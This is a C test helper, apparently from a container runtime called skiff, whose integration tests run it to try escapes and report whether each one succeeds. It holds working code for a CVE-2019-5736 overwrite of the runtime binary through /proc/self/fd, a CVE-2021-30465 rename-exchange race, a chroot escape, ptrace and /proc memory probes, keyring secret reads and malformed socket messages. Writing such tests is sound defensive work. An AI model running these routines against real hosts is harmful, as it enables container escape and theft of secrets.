/*
 * What a process inside a container tries against skiff (the integration
 * tests run it; it is never part of skiff). Each probe prints one line
 * "name errno" (0: the attack worked).
 *
 *   attack probe PID            ptrace, /proc/PID/{environ,mem,exe} of PID
 *   attack overwrite PID GO N   hold /proc/PID/exe open; once the file GO
 *                               exists, try N times to reopen it for writing
 *                               through /proc/self/fd (CVE-2019-5736)
 *   attack exchange A B STOP    swap A and B with renameat2(RENAME_EXCHANGE)
 *                               until the file STOP exists (CVE-2021-30465)
 *   attack escape-ls JAIL DIR...
 *                               leave a chroot the classic way (chroot JAIL
 *                               with the cwd outside it; needs
 *                               CAP_SYS_CHROOT), then print "DIR entries"
 *                               for each DIR found there
 *   attack mounts-of PID        (an inspection, run on the host) every mount
 *                               of PID's mount namespace, reachable from its
 *                               root or not (listmount/statmount, Linux 6.8):
 *                               one line "magic major:minor" each
 *   attack syscall NR...        (an inspection) call each syscall NR with
 *                               zero arguments; print "NR errno" for each
 *   attack seccomp-agent SOCK STATE ERRNO
 *                               (a seccomp agent, not an attack) listen at
 *                               SOCK, write the state it is sent to STATE,
 *                               answer each notification with -ERRNO and
 *                               print "notified NR"
 *   attack with-key FILE PROG ARGS...
 *                               (on the host) join a new session keyring,
 *                               add a user key readable by its possessor
 *                               only, write its id to FILE, exec PROG
 *   attack key-read ID          read key ID: "read ERRNO" (0: the secret
 *                               was read, and is printed as "secret ...");
 *                               then "session DESCRIPTION" of our own
 *                               session keyring
 *   attack stalled-agent SOCK   (a seccomp agent that never accepts) listen
 *                               at SOCK with a queue it fills itself, then
 *                               sleep
 *   attack start-socket PATH KIND
 *                               send one malformed message to a start
 *                               socket: short, error, long-start (a START
 *                               followed by more bytes), or start
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sched.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int try_open(const char *path, int flags)
{
    int fd = open(path, flags);
    if (fd < 0)
        return errno;
    close(fd);
    return 0;
}

static int probe(int pid)
{
    char path[64];
    long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
    printf("ptrace %d\n", r < 0 ? errno : 0);
    if (r == 0)
        ptrace(PTRACE_DETACH, pid, 0, 0);
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    printf("environ %d\n", try_open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    printf("mem %d\n", try_open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    printf("exe %d\n", try_open(path, O_RDONLY));
    return 0;
}

static int overwrite(int pid, const char *go, int tries)
{
    char path[64], self[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY);
    printf("open-exe %d\n", fd < 0 ? errno : 0);
    fflush(stdout);
    if (fd < 0)
        return 0;
    while (access(go, F_OK) != 0)
        usleep(10000);
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int last = 0, wrote = 0;
    for (int i = 0; i < tries && !wrote; i++) {
        int w = open(self, O_WRONLY | O_TRUNC);
        if (w < 0) {
            last = errno;
            usleep(1000);
            continue;
        }
        static const char evil[] = "#!/bin/sh\necho pwned\n";
        wrote = write(w, evil, sizeof evil - 1) == (ssize_t)(sizeof evil - 1);
        close(w);
        last = 0;
    }
    printf("reopen-write %d\n", wrote ? 0 : last);
    return 0;
}

static int exchange(const char *a, const char *b, const char *stop)
{
    long swaps = 0;
    while (access(stop, F_OK) != 0) {
        for (int i = 0; i < 1000; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
                swaps++;
    }
    printf("swaps %ld\n", swaps);
    return 0;
}

/* skiff's wire record: four 32-bit fields; START is 4, ERROR 5. */
static int start_socket(const char *path, const char *kind)
{
    int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    struct sockaddr_un addr = { .sun_family = AF_UNIX };
    strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
    if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof addr) < 0) {
        printf("connect %d\n", errno);
        return 0;
    }
    unsigned int msg[8] = { 0 };
    size_t len = 16;
    if (strcmp(kind, "short") == 0) {
        msg[0] = 4;
        len = 3;
    } else if (strcmp(kind, "error") == 0) {
        msg[0] = 5;
    } else if (strcmp(kind, "long-start") == 0) {
        msg[0] = 4;
        msg[3] = (unsigned int)-1;
        len = sizeof msg;
    } else {
        msg[0] = 4;
        msg[3] = (unsigned int)-1;
    }
    ssize_t n = send(s, msg, len, MSG_NOSIGNAL);
    printf("send %d\n", n == (ssize_t)len ? 0 : errno);
    /* What came back: end of file (0 bytes), a record, or an error. */
    struct timeval tv = { .tv_sec = 2 };
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    char reply[64];
    n = recv(s, reply, sizeof reply, 0);
    printf("reply %zd\n", n);
    close(s);
    return 0;
}

static int escape_ls(const char *jail, int n, char **dirs)
{
    if (chdir("/") < 0 || chroot(jail) < 0) {
        printf("chroot %d\n", errno);
        return 0;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        printf("chroot %d\n", errno);
        return 0;
    }
    for (int i = 0; i < n; i++) {
        DIR *d = opendir(dirs[i]);
        int entries = 0;
        if (d) {
            struct dirent *e;
            while ((e = readdir(d)))
                if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
                    entries++;
            closedir(d);
        }
        printf("%s %d\n", dirs[i], d ? entries : -errno);
    }
    return 0;
}

/* listmount(2) and statmount(2): not in Debian 12's headers. */
struct mnt_id_req_v0 {
    unsigned int size, spare;
    unsigned long long mnt_id, param;
};
struct statmount_head {
    unsigned int size, spare1;
    unsigned long long mask;
    unsigned int sb_dev_major, sb_dev_minor;
    unsigned long long sb_magic;
    unsigned int sb_flags, fs_type;
    unsigned long long mnt_id, mnt_parent_id;
};

static int stat_mount(unsigned long long id, struct statmount_head *h)
{
    static union {
        struct statmount_head h;
        char bytes[4096];
    } buf;
    struct mnt_id_req_v0 one = { .size = sizeof one, .mnt_id = id, .param = 1 | 2 /* SB_BASIC | MNT_BASIC */ };
    if (syscall(457 /* statmount */, &one, &buf, sizeof buf, 0) < 0)
        return -1;
    *h = buf.h;
    return 0;
}

static int mounts_of(int pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
    int ns = open(path, O_RDONLY | O_CLOEXEC);
    if (ns < 0 || setns(ns, 0) < 0) {
        printf("setns %d\n", errno);
        return 1;
    }
    static unsigned long long ids[4096];
    struct mnt_id_req_v0 req = { .size = sizeof req, .mnt_id = ~0ULL /* LSMT_ROOT */ };
    long n = syscall(458 /* listmount */, &req, ids, 4096, 0);
    struct statmount_head h;
    if (n <= 0 || stat_mount(ids[0], &h) < 0) {
        printf("listmount %d\n", errno);
        return 1;
    }
    /* LSMT_ROOT starts at our root, which may sit on top of other mounts
     * (a root moved onto /): climb to the namespace's own root first. */
    unsigned long long top = h.mnt_id;
    for (int k = 0; k < 64 && h.mnt_parent_id != h.mnt_id && stat_mount(h.mnt_parent_id, &h) == 0; k++)
        top = h.mnt_id;
    if (stat_mount(top, &h) == 0)
        printf("%llx %u:%u\n", h.sb_magic, h.sb_dev_major, h.sb_dev_minor);
    req.mnt_id = top;
    n = syscall(458 /* listmount */, &req, ids, 4096, 0);
    if (n < 0) {
        printf("listmount %d\n", errno);
        return 1;
    }
    for (long i = 0; i < n; i++)
        if (stat_mount(ids[i], &h) == 0)
            printf("%llx %u:%u\n", h.sb_magic, h.sb_dev_major, h.sb_dev_minor);
    return 0;
}

static int seccomp_agent(const char *path, const char *state, int answer)
{
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un addr = { .sun_family = AF_UNIX };
    strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
    if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(s, 1) < 0) {
        printf("listen %d\n", errno);
        return 1;
    }
    int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
    static char buf[65536];
    char control[CMSG_SPACE(sizeof(int))];
    struct iovec iov = { .iov_base = buf, .iov_len = sizeof buf - 1 };
    struct msghdr h = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    ssize_t n = c < 0 ? -1 : recvmsg(c, &h, MSG_CMSG_CLOEXEC);
    struct cmsghdr *cm = n > 0 ? CMSG_FIRSTHDR(&h) : NULL;
    if (!cm || cm->cmsg_type != SCM_RIGHTS) {
        printf("recvmsg %d\n", errno);
        return 1;
    }
    int fd;
    memcpy(&fd, CMSG_DATA(cm), sizeof fd);
    FILE *f = fopen(state, "w");
    if (f) {
        fwrite(buf, 1, (size_t)n, f);
        fclose(f);
    }
    for (;;) {
        struct pollfd p = { .fd = fd, .events = POLLIN };
        if (poll(&p, 1, 10000) <= 0 || (p.revents & (POLLHUP | POLLERR)))
            return 0;
        struct seccomp_notif req;
        struct seccomp_notif_resp resp;
        memset(&req, 0, sizeof req);
        if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
            return 0;
        printf("notified %d\n", req.data.nr);
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.error = -answer;
        ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static int stalled_agent(const char *path)
{
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un addr = { .sun_family = AF_UNIX };
    strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
    if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(s, 0) < 0) {
        printf("listen %d\n", errno);
        return 1;
    }
    /* The queue holds one connection: ours. */
    int c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (c < 0 || connect(c, (struct sockaddr *)&addr, sizeof addr) < 0) {
        printf("connect %d\n", errno);
        return 1;
    }
    printf("stalled 0\n");
    for (;;)
        pause();
}

static int with_key(const char *file, char **argv)
{
    long ring = syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, (char *)NULL, 0, 0, 0);
    static const char secret[] = "possessor-only-secret";
    long key = ring < 0 ? -1 : syscall(SYS_add_key, "user", "skiff-test", secret, sizeof secret - 1, -3 /* @s */);
    if (key < 0 || syscall(SYS_keyctl, 5 /* SETPERM */, key, 0x3f000000, 0, 0) < 0) {
        printf("keyctl %d\n", errno);
        return 1;
    }
    FILE *f = fopen(file, "w");
    if (!f)
        return 1;
    fprintf(f, "%ld\n", key);
    fclose(f);
    execv(argv[0], argv);
    printf("exec %d\n", errno);
    return 1;
}

static int key_read(long id)
{
    char buf[256];
    long n = syscall(SYS_keyctl, 11 /* READ */, id, buf, sizeof buf - 1, 0);
    printf("read %d\n", n < 0 ? errno : 0);
    if (n >= 0) {
        buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = '\0';
        printf("secret %s\n", buf);
    }
    n = syscall(SYS_keyctl, 6 /* DESCRIBE */, -3 /* @s */, buf, sizeof buf - 1, 0);
    if (n > 0) {
        buf[n < (long)sizeof buf ? n - 1 : (long)sizeof buf - 1] = '\0';
        printf("session %s\n", buf);
    }
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "probe") == 0)
        return probe(atoi(argv[2]));
    if (argc == 5 && strcmp(argv[1], "overwrite") == 0)
        return overwrite(atoi(argv[2]), argv[3], atoi(argv[4]));
    if (argc == 5 && strcmp(argv[1], "exchange") == 0)
        return exchange(argv[2], argv[3], argv[4]);
    if (argc >= 4 && strcmp(argv[1], "escape-ls") == 0)
        return escape_ls(argv[2], argc - 3, argv + 3);
    if (argc >= 3 && strcmp(argv[1], "syscall") == 0) {
        for (int i = 2; i < argc; i++) {
            long r = syscall(atol(argv[i]), 0, 0, 0, 0, 0, 0);
            printf("%s %d\n", argv[i], r < 0 ? errno : 0);
        }
        return 0;
    }
    if (argc == 5 && strcmp(argv[1], "seccomp-agent") == 0)
        return seccomp_agent(argv[2], argv[3], atoi(argv[4]));
    if (argc == 3 && strcmp(argv[1], "mounts-of") == 0)
        return mounts_of(atoi(argv[2]));
    if (argc >= 4 && strcmp(argv[1], "with-key") == 0)
        return with_key(argv[2], argv + 3);
    if (argc == 3 && strcmp(argv[1], "key-read") == 0)
        return key_read(atol(argv[2]));
    if (argc == 3 && strcmp(argv[1], "stalled-agent") == 0)
        return stalled_agent(argv[2]);
    if (argc == 4 && strcmp(argv[1], "start-socket") == 0)
        return start_socket(argv[2], argv[3]);
    fprintf(stderr, "usage: attack probe PID | overwrite PID GO N | exchange A B STOP | start-socket PATH KIND\n");
    return 2;
}
